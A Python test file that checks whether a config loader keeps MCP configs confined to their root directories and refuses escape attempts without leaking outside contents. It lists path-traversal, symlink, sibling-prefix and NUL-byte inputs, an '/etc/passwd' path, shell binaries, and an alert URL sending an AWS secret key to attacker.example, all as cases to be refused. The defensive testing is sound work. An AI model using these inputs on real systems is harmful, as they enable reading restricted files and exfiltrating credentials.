"""Confinement of MCP configs to the config roots: every escape is refused, and the
refusal leaks nothing of what lies outside.

The layout, under tmp:

    infra/                 the one config root
      app/infra.yaml       a valid config (workspace `inside-ws`)
      link -> ../outside   a symlinked directory that points out
      linkfile.yaml -> ../outside/infra.yaml
      dirlink -> ../outside/net
      escaping/...         configs inside the root whose paths point out
    infra-evil/infra.yaml  a sibling whose name starts with the root's (workspace `evil-secret-ws`)
    outside/infra.yaml     a valid config outside (workspace `outside-secret-ws`,
                           tfvars holding `outside-secret-value`)
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml

from tfo.config.errors import ConfigError
from tfo.daemon import confinement
from tfo.daemon.confinement import ConfigRoots, ConfinementError

SECRETS = ("outside-secret-ws", "outside-secret-value", "evil-secret-ws", "resource \"null_resource\"")


def _stack(root: Path, ws_name: str, *, tfvars_value: str | None = None) -> Path:
    """A valid config with one workspace `net` (named ws_name) under root."""
    (root / "net").mkdir(parents=True, exist_ok=True)
    (root / "net" / "main.tf").write_text('resource "null_resource" "x" {}\n')
    entry: dict[str, Any] = {"name": ws_name, "dir": "net"}
    if tfvars_value is not None:
        (root / "net" / "secret.tfvars.json").write_text(json.dumps({"password": tfvars_value}))
        entry["tfvars"] = "net/secret.tfvars.json"
    path = root / "infra.yaml"
    path.write_text(yaml.safe_dump({"workspaces": [entry]}))
    return path


def _config(path: Path, workspaces: list[dict[str, Any]], **top: Any) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(yaml.safe_dump({**top, "workspaces": workspaces}))
    return path


@dataclass
class Layout:
    tmp: Path
    root: Path
    outside: Path
    evil: Path
    roots: ConfigRoots


@pytest.fixture
def layout(tmp_path: Path) -> Layout:
    tmp = tmp_path.resolve()
    root, outside, evil = tmp / "infra", tmp / "outside", tmp / "infra-evil"
    _stack(outside, "outside-secret-ws", tfvars_value="outside-secret-value")
    _stack(evil, "evil-secret-ws")
    _stack(root / "app", "inside-ws")
    (root / "link").symlink_to(outside, target_is_directory=True)
    (root / "linkfile.yaml").symlink_to(outside / "infra.yaml")
    (root / "dirlink").symlink_to(outside / "net", target_is_directory=True)
    (root / "inlink").symlink_to(root / "app", target_is_directory=True)  # points inside: fine
    esc = root / "escaping"
    _config(esc / "dir.yaml", [{"name": "a", "dir": "../../outside/net"}])
    _config(esc / "absdir.yaml", [{"name": "a", "dir": str(outside / "net")}])
    _config(esc / "tfvars.yaml", [{"name": "a", "dir": "../app/net", "tfvars": "../../outside/net/secret.tfvars.json"}])
    _config(esc / "symdir.yaml", [{"name": "a", "dir": "../dirlink"}])
    _config(esc / "sibling.yaml", [{"name": "a", "dir": "../../infra-evil/net"}])
    _config(esc / "wsroot.yaml", [{"name": "a", "dir": "net"}], workspace_root="../../outside")
    return Layout(tmp, root, outside, evil, ConfigRoots.from_paths([root]))


@pytest.fixture(autouse=True)
def reads(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[Path]]:
    """Every config and tfvars file that loading reads."""
    import tfo.config.loader

    seen: list[Path] = []
    real_yaml, real_tfvars = confinement.read_yaml, tfo.config.loader.read_tfvars

    def read_yaml(path: Path) -> Any:
        seen.append(Path(path))
        return real_yaml(path)

    def read_tfvars(path: Path) -> Any:
        seen.append(Path(path))
        return real_tfvars(path)

    monkeypatch.setattr(confinement, "read_yaml", read_yaml)
    monkeypatch.setattr(tfo.config.loader, "read_tfvars", read_tfvars)
    yield seen


@dataclass(frozen=True)
class Escape:
    id: str
    path: Callable[[Layout], str]
    expect: str
    hides_target: bool = False  # the resolved target (a symlink's) must not be named


FILE_ESCAPES = [
    Escape("dotdot", lambda lo: "../outside/infra.yaml", "is outside the config roots"),
    Escape("dotdot-deep", lambda lo: "app/net/../../../outside/infra.yaml", "is outside the config roots"),
    Escape("dotdot-absolute", lambda lo: f"{lo.root}/../outside/infra.yaml", "is outside the config roots"),
    Escape("absolute-elsewhere", lambda lo: str(lo.outside / "infra.yaml"), "is outside the config roots"),
    Escape("absolute-dir-elsewhere", lambda lo: str(lo.outside), "is outside the config roots"),
    Escape("symlinked-dir", lambda lo: "link/infra.yaml", "is outside the config roots", hides_target=True),
    Escape("symlinked-dir-itself", lambda lo: "link", "is outside the config roots", hides_target=True),
    Escape("symlinked-file", lambda lo: "linkfile.yaml", "is outside the config roots", hides_target=True),
    Escape("sibling-prefix-absolute", lambda lo: str(lo.evil / "infra.yaml"), "is outside the config roots"),
    Escape("sibling-prefix-relative", lambda lo: "../infra-evil/infra.yaml", "is outside the config roots"),
    Escape("sibling-prefix-no-slash", lambda lo: f"{lo.root}-evil/infra.yaml", "is outside the config roots"),
    Escape("nul-byte", lambda lo: "app/infra.yaml\0", "contains a NUL byte"),
    Escape("nul-byte-truncation", lambda lo: f"{lo.outside}/infra.yaml\0app/infra.yaml", "contains a NUL byte"),
    Escape("empty", lambda lo: "", "is empty"),
    Escape("home", lambda lo: "~/../../../etc/passwd", "is outside the config roots"),
    Escape("dir-escapes", lambda lo: "escaping/dir.yaml", "workspace 'a': dir '../../outside/net' is outside"),
    Escape("dir-absolute-elsewhere", lambda lo: "escaping/absdir.yaml", "workspace 'a': dir"),
    Escape("tfvars-escapes", lambda lo: "escaping/tfvars.yaml", "workspace 'a': tfvars"),
    Escape("dir-symlink-out", lambda lo: "escaping/symdir.yaml", "dir '../dirlink' is outside", hides_target=True),
    Escape("dir-sibling-prefix", lambda lo: "escaping/sibling.yaml", "dir '../../infra-evil/net' is outside"),
    Escape("workspace-root-escapes", lambda lo: "escaping/wsroot.yaml", "workspace_root '../../outside' is outside"),
]


def _assert_clean(message: str, layout: Layout, reads: list[Path], *, hides_target: bool) -> None:
    assert "\n" not in message
    for secret in SECRETS:
        assert secret not in message, message
    if hides_target:
        assert str(layout.outside) not in message, message
    outside_reads = [p for p in reads if not p.resolve().is_relative_to(layout.root)]
    assert outside_reads == [], f"read outside the root: {outside_reads}"


@pytest.mark.parametrize("case", FILE_ESCAPES, ids=lambda c: c.id)
def test_file_escapes_are_refused(case: Escape, layout: Layout, reads: list[Path]) -> None:
    with pytest.raises(ConfinementError) as caught:
        confinement.load_file(layout.roots, case.path(layout))
    message = str(caught.value)
    assert case.expect in message, message
    _assert_clean(message, layout, reads, hides_target=case.hides_target)


@dataclass(frozen=True)
class InlineEscape:
    id: str
    workspace: Callable[[Layout], dict[str, Any]]
    expect: str
    top: Callable[[Layout], dict[str, Any]] = lambda lo: {}
    hides_target: bool = False


INLINE_ESCAPES = [
    InlineEscape("dir-dotdot", lambda lo: {"name": "a", "dir": "../outside/net"}, "workspace 'a': dir"),
    InlineEscape("dir-absolute", lambda lo: {"name": "a", "dir": str(lo.outside / "net")}, "is outside the config"),
    InlineEscape("dir-symlink", lambda lo: {"name": "a", "dir": "dirlink"}, "is outside", hides_target=True),
    InlineEscape("dir-through-link", lambda lo: {"name": "a", "dir": "link/net"}, "is outside", hides_target=True),
    InlineEscape("dir-sibling-prefix", lambda lo: {"name": "a", "dir": "../infra-evil/net"}, "is outside"),
    InlineEscape("dir-nul", lambda lo: {"name": "a", "dir": "app/net\0"}, "contains a NUL byte"),
    InlineEscape(
        "tfvars-outside",
        lambda lo: {"name": "a", "dir": "app/net", "tfvars": "../outside/net/secret.tfvars.json"},
        "workspace 'a': tfvars",
    ),
    InlineEscape(
        "workspace-root",
        lambda lo: {"name": "a", "dir": "net"},
        "workspace_root '../outside' is outside",
        top=lambda lo: {"workspace_root": "../outside"},
    ),
    InlineEscape(
        "binary-not-terraform",
        lambda lo: {"name": "a", "dir": "app/net", "binary": "/bin/sh"},
        "may only run terraform or tofu",
    ),
    InlineEscape(
        "top-binary-not-terraform",
        lambda lo: {"name": "a", "dir": "app/net"},
        "may only run terraform or tofu",
        top=lambda lo: {"terraform": {"binary": "python3"}},
    ),
    InlineEscape(
        "alerts",
        lambda lo: {"name": "a", "dir": "app/net"},
        "may not set alerts",
        top=lambda lo: {"alerts": {"urls": ["json://attacker.example/${AWS_SECRET_ACCESS_KEY}"]}},
    ),
]


@pytest.mark.parametrize("as_text", [False, True], ids=["mapping", "yaml-text"])
@pytest.mark.parametrize("case", INLINE_ESCAPES, ids=lambda c: c.id)
def test_inline_escapes_are_refused(case: InlineEscape, as_text: bool, layout: Layout, reads: list[Path]) -> None:
    document = {**case.top(layout), "workspaces": [case.workspace(layout)]}
    config: dict[str, Any] | str = yaml.safe_dump(document) if as_text else document
    with pytest.raises(ConfinementError) as caught:
        confinement.load_inline(layout.roots, config)
    message = str(caught.value)
    assert case.expect in message, message
    assert message.startswith(f"{layout.root}/{confinement.INLINE_FILENAME}:"), message
    _assert_clean(message, layout, reads, hides_target=case.hides_target)


# -- what is allowed ------------------------------------------------------------


@pytest.mark.parametrize(
    "given",
    [
        lambda lo: "app/infra.yaml",
        lambda lo: "app",
        lambda lo: "./app/../app/infra.yaml",
        lambda lo: str(lo.root / "app" / "infra.yaml"),
        lambda lo: "inlink/infra.yaml",  # a symlink that stays inside
    ],
    ids=["relative", "directory", "dotdot-inside", "absolute-inside", "symlink-inside"],
)
def test_configs_inside_the_root_load(given: Callable[[Layout], str], layout: Layout) -> None:
    loaded = confinement.load_file(layout.roots, given(layout))
    assert loaded.dag.names == ["inside-ws"]
    assert loaded.path.is_relative_to(layout.root)


def test_a_relative_path_is_found_in_any_root(layout: Layout) -> None:
    roots = ConfigRoots.from_paths([layout.root / "app", layout.outside])
    assert confinement.load_file(roots, "infra.yaml").dag.names == ["inside-ws"]
    assert confinement.load_file(roots, "net/../infra.yaml").path == layout.root / "app" / "infra.yaml"
    assert confinement.load_file(roots, str(layout.outside / "infra.yaml")).dag.names == ["outside-secret-ws"]


def test_inline_config_loads_like_a_file(layout: Layout) -> None:
    loaded = confinement.load_inline(
        layout.roots, {"name": "demo", "workspaces": [{"name": "n", "dir": "app/net", "dependsOn": []}]}
    )
    assert loaded.name == "inline-demo"
    assert loaded.workspace_dir(loaded.config.workspaces[0]) == layout.root / "app" / "net"
    assert confinement.load_inline(layout.roots, "workspaces: [{name: n, dir: app/net}]").name == "inline-infra"


def test_inline_config_is_validated_like_a_file(layout: Layout) -> None:
    with pytest.raises(ConfigError) as caught:
        confinement.load_inline(layout.roots, {"workspaces": [{"name": "n", "dir": "app/net", "dependson": []}]})
    assert "unknown key 'dependson' (did you mean 'dependsOn'?)" in str(caught.value)
    with pytest.raises(ConfigError, match="does not exist"):
        confinement.load_inline(layout.roots, {"workspaces": [{"name": "n", "dir": "app/nowhere"}]})
    with pytest.raises(ConfigError, match="YAML syntax error"):
        confinement.load_inline(layout.roots, "workspaces: [")


def test_roots_must_exist(tmp_path: Path) -> None:
    with pytest.raises(ConfinementError, match="does not exist"):
        ConfigRoots.from_paths([tmp_path / "missing"])
    (tmp_path / "file").write_text("x")
    with pytest.raises(ConfinementError, match="not a directory"):
        ConfigRoots.from_paths([tmp_path / "file"])


def test_recorded_paths_are_checked_lexically(layout: Layout) -> None:
    roots = layout.roots
    assert roots.holds_recorded(str(layout.root / "app" / "infra.yaml"))
    assert roots.holds_recorded(str(layout.root / "gone" / "infra.yaml"))
    assert not roots.holds_recorded(str(layout.evil / "infra.yaml"))
    assert not roots.holds_recorded(f"{layout.root}/../outside/infra.yaml")
    assert not roots.holds_recorded("infra.yaml")
    assert not roots.holds_recorded(f"{layout.root}/x\0")
